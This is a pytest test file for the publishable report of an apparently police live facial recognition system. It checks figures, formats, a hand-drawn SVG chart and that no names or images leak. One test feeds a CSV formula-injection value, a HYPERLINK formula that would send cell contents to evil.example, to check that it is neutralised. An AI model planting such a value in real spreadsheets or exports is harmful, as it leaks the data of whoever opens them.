"""The publishable report: right figures in every format, no images, no names."""

from __future__ import annotations

import base64
import configparser
import csv
import io
import json
import sys
import uuid
from pathlib import Path
from xml.etree import ElementTree

import pytest
import sqlite_utils

from firmware.errors import LfrError
from firmware.hardware.clock import FakeClock
from firmware.link.messages import HandheldEvent
from firmware.plotting import pyplot
from firmware.store import alerts, deployments, report
from firmware.store.alerts import NewAlert
from firmware.store.db import open_db, transaction
from firmware.store.handheld import record_handheld_event
from firmware.store.report_chart import bin_counts, score_histogram_svg
from firmware.store.stats import StatsCounters

SCORES = [0.61, 0.65, 0.7, 0.72, 0.8, 0.9, 0.95]
DECISIONS = ["false_alert", "confirmed_not_stopped", "confirmed_stopped", "confirmed_stopped",
             "confirmed_stopped", None, None]
PROBE = b"\xff\xd8\xff\xe0PROBE-BYTES"
FIELD = {2: ("engaged", "arrested"), 3: ("engaged", "advised"), 4: ("not_located",)}
DEVICE = str(uuid.uuid4())


@pytest.fixture
def db(tmp_path: Path) -> sqlite_utils.Database:
    clock = FakeClock()
    db = open_db(tmp_path / "lfr.sqlite3")
    dep = deployments.start(db, authority="AUTH-2026-001", officer="PC Officer Name", location="King's Cross",
                            threshold=0.6, clock=clock, actor="test")
    with transaction(db):
        for i in range(4):
            db.execute("INSERT INTO watchlist_entries (deployment_id, subject_id, name, category, reason, "
                       "reference_jpeg, embedding, bundle_sha256) "
                       "VALUES (?, ?, ?, 'wanted', 'warrant', ?, ?, ?)",
                       [dep.id, f"S-{i}", f"Unalerted Listed {i}", b"\xff\xd8\xffREF", b"\0" * 768, "cd" * 32])
    counters = StatsCounters()
    counters.add("frames", 9000)
    counters.add("faces_seen", 1234)
    counters.flush(db, dep.id, clock=clock)
    for i, (score, decision) in enumerate(zip(SCORES, DECISIONS, strict=True)):
        clock.advance(60)
        a = NewAlert(deployment_id=dep.id, t_wall=clock.time(), t_mono=clock.monotonic(), camera="cam0",
                     track_id=i, subject_id="S-0", subject_name="Alerted Subject", score=score, category="wanted",
                     reason="warrant", probe_jpeg=PROBE, reference_jpeg=b"\xff\xd8\xffREF")
        alerts.record_alert(db, a, actor="p")
        if decision:
            alerts.record_decision(db, a.id, decision, clock=clock, actor="operator")
        for kind in FIELD.get(i, ()):  # what the officers' handhelds reported
            record_handheld_event(db, HandheldEvent(event_id=str(uuid.uuid4()), kind=kind, device_id=DEVICE,
                                                    callsign="PC 1", alert_id=a.id, t_wall=clock.time()),
                                  clock=clock, actor="viewer:test")
    clock.advance(3600)
    deployments.stop(db, clock=clock, actor="test")
    yield db
    db.close()


def test_report_figures(db: sqlite_utils.Database) -> None:
    r = report.build_report(db, 1)
    assert r["authority"] == "AUTH-2026-001" and r["location"] == "King's Cross" and r["status"] == "closed"
    assert r["started"] == "2026-01-01T00:00:00+00:00" and r["duration_s"] == 7 * 60 + 3600
    assert (r["threshold"], r["watchlist_size"], r["faces_seen"], r["frames"]) == (0.6, 4, 1234, 9000)
    assert r["alerts"] == 7
    assert r["alerts_by_outcome"] == {"confirmed_stopped": 3, "false_alert": 1, "confirmed_not_stopped": 1,
                                      "pending": 2}
    assert r["score_median"] == pytest.approx(0.72)
    assert r["score_p95"] == pytest.approx(0.935)
    assert r["field_by_outcome"] == {"engaged": 2, "not_located": 1, "arrested": 1, "advised": 1, "no_action": 0}
    record = r["published_record"]  # every field of the Met's published deployment records
    assert (record["Date"], record["Time"], record["Location"]) == ("2026-01-01", "00:00–01:07 UTC", "King's Cross")
    assert (record["Watchlist size"], record["Faces seen"], record["Alerts"], record["False alerts"],
            record["Arrests"], record["True alerts (confirmed)"]) == (4, 1234, 7, 1, 1, 4)
    assert record["Other outcomes"] == "1 advised, 0 no further action, 1 not located"


def test_the_html_page_has_labels_and_sections_not_field_names(db: sqlite_utils.Database) -> None:
    """Issue 14: the page showed raw field names (duration_s, alerts_confirmed_not_stopped, audit_head_hash)
    and left out the outcomes the officers' handhelds reported."""
    page = report.render(report.build_report(db, 1), "html")
    for raw in ("duration_s", "alerts_confirmed_not_stopped", "audit_head_hash", "watchlist_size", "faces_seen"):
        assert raw not in page
    headings = [h.split("</h2>")[0] for h in page.split("<h2>")[1:]]
    assert headings == ["Published record", "Deployment", "Watchlist and operating point", "Faces and alerts",
                        "Outcomes reported from officers' handhelds", "Audit"]
    officers = page.split("Outcomes reported from officers")[1].split("<h2>")[0]
    assert "<th>Arrests</th><td class=\"n\">1</td>" in officers
    assert "<th>Engaged by officers</th><td class=\"n\">2</td>" in officers
    assert "<th>Duration</th><td>1 h 07 min</td>" in page
    assert "Confirmed by the operator – not stopped" in page


@pytest.mark.parametrize("fmt", report.FORMATS)
def test_no_images_and_no_names(db: sqlite_utils.Database, fmt: str) -> None:
    text = report.render(report.build_report(db, 1), fmt)
    for secret in ("Unalerted Listed", "Alerted Subject", "PC Officer Name", "S-0", "S-1"):
        assert secret not in text, f"{secret!r} leaked into the {fmt} report"
    assert base64.b64encode(PROBE).decode()[:12] not in text and "PROBE-BYTES" not in text


def test_formats_parse(db: sqlite_utils.Database) -> None:
    facts = report.build_report(db, 1)
    assert json.loads(report.render(facts, "json")) == facts
    rows = dict(csv.reader(io.StringIO(report.render(facts, "csv"))))
    assert rows["metric"] == "value" and rows["alerts_confirmed_stopped"] == "3" and rows["faces_seen"] == "1234"
    assert rows["field_arrested"] == "1"
    page = report.render(facts, "html")
    assert page.startswith("<!DOCTYPE html>") and "King&#x27;s Cross" in page
    svg = ElementTree.fromstring(page[page.index("<svg"):page.index("</svg>") + 6])  # well-formed, inline
    bars = svg.findall("{http://www.w3.org/2000/svg}rect")
    assert sum(int(b.get("data-count", 0)) for b in bars) == facts["alerts"]
    for outcome, n in facts["alerts_by_outcome"].items():
        assert sum(int(b.get("data-count", 0)) for b in bars if b.get("data-outcome") == outcome) == n
    line = svg.find("{http://www.w3.org/2000/svg}line[@class='threshold']")
    assert line is not None and float(line.get("data-threshold", "nan")) == facts["threshold"]
    assert "data:image" not in page and "<img" not in page  # no raster image, no plotting library
    with pytest.raises(ValueError, match="unknown report format"):
        report.render(facts, "pdf")


def test_report_of_an_empty_open_deployment(tmp_path: Path) -> None:
    db = open_db(tmp_path / "lfr.sqlite3")
    deployments.start(db, authority="A", officer="O", location="L", threshold=0.6, clock=FakeClock(),
                      actor="test")
    r = report.build_report(db, 1)
    assert r["status"] == "open" and r["alerts"] == 0 and r["score_median"] is None and r["stopped"] is None
    assert "score_median," in report.render(r, "csv")
    page = report.render(r, "html")
    assert "<svg" in page and 'class="bar"' not in page  # the chart's axes, no bars


def test_score_chart_bins_stack_and_scale() -> None:
    """The hand-written SVG chart: 0.05-wide bins (1.0 in the last), one bin's bars stacked, heights to scale."""
    assert bin_counts([0.0, 0.049, 0.05, 0.999, 1.0]) == [2, 1] + [0] * 17 + [2]
    svg = ElementTree.fromstring(score_histogram_svg({"a": [0.71, 0.72], "b": [0.73, 0.91]}, 0.6))
    bars = {(b.get("data-outcome"), int(b.get("data-bin", -1))): b
            for b in svg.iter("{http://www.w3.org/2000/svg}rect")}
    assert set(bars) == {("a", 14), ("b", 14), ("b", 18)}
    a, b = bars[("a", 14)], bars[("b", 14)]
    assert float(b.get("y", 0)) + float(b.get("height", 0)) == pytest.approx(float(a.get("y", 0)), abs=0.1)
    assert float(a.get("height", 0)) == pytest.approx(2 * float(bars[("b", 18)].get("height", 0)), abs=0.2)


def test_the_van_needs_no_plotting_library(db: sqlite_utils.Database, monkeypatch: pytest.MonkeyPatch) -> None:
    """matplotlib is off the van (issue 16): the HTML report draws its chart without it, matplotlib is not an
    install requirement, and a chart that does need it (laptop, bench) says how to install it."""
    monkeypatch.setitem(sys.modules, "matplotlib", None)  # an import of it now fails
    assert "<svg" in report.render(report.build_report(db, 1), "html")
    with pytest.raises(LfrError, match=r"pip install 'lfr\[plots\]'"):
        pyplot()
    setup = configparser.ConfigParser()
    setup.read(Path(__file__).resolve().parents[1] / "setup.cfg")
    assert "matplotlib" not in setup["options"]["install_requires"]
    assert "matplotlib" in setup["options.extras_require"]["plots"]


def test_csv_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
    """Issue 13, finding 8: `lfr report --format csv` wrote `=HYPERLINK(...)` cells raw, which a spreadsheet
    runs as a formula. Text starting with = + - @ is now prefixed with an apostrophe; numbers stay numbers."""
    db = open_db(tmp_path / "lfr.sqlite3")
    deployments.start(db, authority='=HYPERLINK("http://evil.example/?"&A1,"open")', officer="O",
                      location="@SUM(1+1)", threshold=0.6, clock=FakeClock(), actor="test")
    text = report.render(report.build_report(db, 1), "csv")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(c.startswith(("=", "+", "@")) for c in cells), text
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" in cells and "'@SUM(1+1)" in cells
    assert report.spreadsheet_safe(-3) == -3 and report.spreadsheet_safe("-3") == "'-3"


@pytest.mark.slow
def test_the_html_page_in_a_browser(db: sqlite_utils.Database, tmp_path: Path) -> None:
    """The page as the public sees it (headless Chromium): every section and the chart are drawn; the
    screenshot goes to $LFR_SCREENSHOT_DIR when set (docs/img/report.png), else to the test's folder."""
    import os

    from firmware.bench import browser

    page_html = report.render(report.build_report(db, 1), "html")
    with browser.chromium_page(viewport=(1000, 900)) as page:
        page.set_content(page_html)
        assert page.eval_on_selector_all("h2", "hs => hs.length") == 6
        chart = page.locator("img[alt^='histogram'], svg[role='img']").first
        assert chart.bounding_box()["width"] > 300
        shots = Path(os.environ.get("LFR_SCREENSHOT_DIR", tmp_path))
        shots.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(shots / "report.png"), full_page=True)
